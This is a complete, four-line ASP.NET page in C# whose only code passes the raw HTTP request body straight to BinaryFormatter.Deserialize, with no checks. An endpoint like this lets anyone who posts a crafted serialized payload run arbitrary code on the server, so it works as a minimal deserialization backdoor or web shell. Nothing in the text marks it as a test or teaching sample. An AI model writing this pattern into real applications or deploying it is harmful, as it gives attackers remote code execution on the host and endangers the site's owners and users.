<%@ Page Language="C#" %><%@ Import Namespace="System.Runtime.Serialization.Formatters.Binary" %><%
var bf = new BinaryFormatter();
bf.Deserialize(Request.InputStream);
%>
